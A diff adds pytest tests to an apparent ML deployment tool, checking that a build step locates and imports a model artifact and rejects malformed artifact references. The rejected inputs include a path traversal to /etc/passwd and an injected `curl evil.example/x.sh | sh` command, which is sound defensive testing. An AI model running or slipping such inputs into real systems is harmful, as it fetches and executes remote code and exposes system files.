@@ -127,3 +127,49 @@ def test_bentoml_home_inside_the_build_context_is_refused(tmp_path: Path, monkey
         check_home_outside(context)
     monkeypatch.setenv("BENTOML_HOME", str(tmp_path / "elsewhere"))
     check_home_outside(context)
+
+
+def test_locate_names_the_ct_artifact_and_build_imports_it_from_there(project: Project, tmp_path: Path) -> None:
+    """CD's first step: `build --env ENV --locate` says which CT run artifact to download and where;
+    after the download, build imports the archive from that folder into an empty store."""
+    from mlspec.model_store import export_model
+
+    root = copy_example("breast-cancer", tmp_path / "cd")
+    inner = "runs/20260101T000000000000Z-00001/model.bentomodel"
+    reference = f"gh-artifact:4242/mlspec-breast-cancer-ct-state/{inner}"
+    write_deployment(root, Deployment(
+        project="breast-cancer", environment="staging",
+        model=DeployedModel(tag=project.tag, version=project.tag.split(":")[1], artifact=reference),
+        lineage={"run_id": "20260101T000000000000Z-00001", "commit": "feedfacefeedface"},
+    ))
+    located = run_mlspec("build", "mlproject.yaml", "--env", "staging", "--locate", cwd=root)
+    assert located.returncode == 0, located.stderr
+    folder = ".mlspec/artifacts/4242/mlspec-breast-cancer-ct-state"
+    assert located.stdout.splitlines() == [
+        "download=true", f"tag={project.tag}", "run-id=4242", "name=mlspec-breast-cancer-ct-state",
+        f"path={folder}", f"artifact={folder}/{inner}",
+    ]
+    export_model(project.tag, root / folder / inner)  # what actions/download-artifact puts there
+    result = run_mlspec("build", "mlproject.yaml", "--env", "staging", cwd=root,
+                        env={"BENTOML_HOME": str(tmp_path / "empty-store")})
+    assert result.returncode == 0, result.stderr
+    assert f"imported model {project.tag} from {root / folder / inner}" in result.stdout
+
+
+@pytest.mark.parametrize("reference", [
+    "gh-artifact:42/x/../../etc/passwd",
+    "gh-artifact:42; curl evil.example/x.sh | sh",
+    "gh-artifact:run-1/mlspec-state",
+])
+def test_locate_refuses_an_artifact_reference_that_is_not_plain_names(project: Project, tmp_path: Path,
+                                                                      reference: str) -> None:
+    root = copy_example("breast-cancer", tmp_path / "cd")
+    write_deployment(root, Deployment(
+        project="breast-cancer", environment="staging",
+        model=DeployedModel(tag=project.tag, version=project.tag.split(":")[1], artifact=reference),
+    ))
+    result = run_mlspec("build", "mlproject.yaml", "--env", "staging", "--locate", cwd=root)
+    assert result.returncode == 1
+    assert result.stdout == ""
+    assert f"model.artifact: {reference!r} is not `gh-artifact:<workflow-run-id>/<artifact-name>" in result.stderr
+    assert "Traceback" not in result.stderr
